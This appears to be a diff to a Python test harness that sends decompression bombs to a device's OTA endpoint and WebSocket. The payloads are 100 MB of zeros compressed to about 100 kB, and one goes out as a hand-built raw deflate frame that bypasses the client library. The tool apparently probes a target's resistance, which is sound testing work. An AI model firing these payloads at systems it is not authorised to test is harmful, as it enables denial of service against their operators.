@@ -7,15 +7,18 @@ from __future__ import annotations
 
 import asyncio
 import json
+import logging
 import os
 import random
 import socket
+import struct
 import sys
 import time
 import zlib
 from collections.abc import AsyncGenerator, Awaitable, Callable, Mapping
 from contextlib import asynccontextmanager, suppress
 from dataclasses import dataclass, field
+from functools import cache
 from typing import Any, Final
 from urllib.parse import urlsplit
 
@@ -144,14 +147,27 @@ async def json_bombs(attack: Attack, session: aiohttp.ClientSession) -> None:
 
 async def deflate_bombs(attack: Attack, session: aiohttp.ClientSession) -> None:
     """Send 100 MB of zeros in 100 kB, as a compressed frame and as a compressed body of OTA."""
-    bomb = zlib.compress(bytes(FRAME_BYTES[-1]), 9)
+    bomb = compressed_zeros()
     attack.tried += 2
     with suppress(*ERRORS):
         headers = {**attack.ids(), "Content-Encoding": "deflate", "Content-Type": "application/json"}
         async with session.post(f"{attack.url}{OTA}", headers=headers, data=bomb) as answer:
             await answer.read()
-    async with attack.device(session, compress=15) as device:
-        await device.send_bytes(bytes(FRAME_BYTES[-1]), compress=9)
+    async with attack.device(session) as device:
+        device._writer.transport.write(compressed_frame(bomb[2:-4]))
+        with suppress(TypeError):
+            await device.receive_json(timeout=1.0)
+
+
+@cache
+def compressed_zeros() -> bytes:
+    """Return the largest frame's worth of zeros, compressed."""
+    return zlib.compress(bytes(FRAME_BYTES[-1]), 9)
+
+
+def compressed_frame(payload: bytes) -> bytes:
+    """Return a binary WebSocket frame of raw deflate data (RFC 7692), masked by zeros."""
+    return struct.pack("!BBQ", 0xC2, 0x80 | 127, len(payload)) + bytes(4) + payload
 
 
 async def garbage(attack: Attack, session: aiohttp.ClientSession) -> None:  # noqa: ARG001
@@ -277,5 +293,6 @@ async def run(name: str, url: str, lasts_s: float) -> Attack:
 
 if __name__ == "__main__":
     os.nice(19)  # it is another host's processor that works here
+    logging.getLogger("asyncio").setLevel(logging.ERROR)  # a front that hangs up is what should happen
     done = asyncio.run(run(sys.argv[1], sys.argv[2], float(sys.argv[3])))
     print(json.dumps({"tried": done.tried, "let_in": done.let_in}))  # noqa: T201
